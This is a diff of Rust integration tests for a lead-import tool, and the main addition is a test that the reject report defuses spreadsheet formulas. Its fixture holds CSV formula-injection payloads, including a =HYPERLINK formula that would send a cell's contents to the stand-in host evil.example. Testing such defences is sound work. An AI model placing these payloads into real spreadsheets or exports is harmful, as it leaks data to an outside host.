@@ -62,9 +62,9 @@ fn count(dir: &Path, what: &'static str) -> i64 {
         .build()
         .unwrap();
     runtime
-        .block_on(db.query(move |conn| match what {
-            "leads" => leads::table.count().get_result::<i64>(conn),
-            _ => businesses::table.count().get_result::<i64>(conn),
+        .block_on(db.read(move |conn| match what {
+            "leads" => conn.get_result::<_, i64>(leads::table.count()),
+            _ => conn.get_result::<_, i64>(businesses::table.count()),
         }))
         .unwrap()
 }
@@ -138,6 +138,66 @@ fn lead_import_reports_rejects_and_reruns_create_no_duplicates() {
     assert!(!out.status.success());
     let stderr = String::from_utf8(out.stderr).unwrap();
     assert!(stderr.contains("Not a member of this team"), "{stderr}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// Rejected rows whose cells a spreadsheet would run as formulas, in a file with such a header.
+const FORMULAS: &str = "\
+address,city,state,zip_code,first_name,longitude,notes,=HYPERLINK(\"http://evil.example/\")
+\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",Austin,XX,78701,+Ann,-97.74,@SUM(1),x
+\"-2+3\",Austin,XX,78701,\tTab,-97.7,\"\rCR\",-5
+";
+
+#[test]
+fn the_reject_report_defuses_formulas() {
+    let dir = temp_dir("formulas");
+    admin(&dir);
+    std::fs::write(dir.join("leads.csv"), FORMULAS).unwrap();
+    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
+    let s = summary(&stdout);
+    assert_eq!(figure(&s, "rejected"), 2, "{stdout}");
+    let mut report = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(&s["report"])
+        .unwrap();
+    let rows: Vec<Vec<String>> = report
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(
+        rows[0][2..],
+        [
+            "address",
+            "city",
+            "state",
+            "zip_code",
+            "first_name",
+            "longitude",
+            "notes",
+            "'=HYPERLINK(\"http://evil.example/\")"
+        ]
+    );
+    assert_eq!(rows[1][0], "2");
+    assert!(rows[1][1].starts_with("state"), "{:?}", rows[1]);
+    assert_eq!(
+        rows[1][2..],
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "Austin",
+            "XX",
+            "78701",
+            "'+Ann",
+            "-97.74",
+            "'@SUM(1)",
+            "x"
+        ]
+    );
+    // A plain negative number is no formula: it stays as it is.
+    assert_eq!(
+        rows[2][2..],
+        ["'-2+3", "Austin", "XX", "78701", "'\tTab", "-97.7", "'\rCR", "-5"]
+    );
+    assert_eq!(rows.len(), 3);
     let _ = std::fs::remove_dir_all(&dir);
 }
 
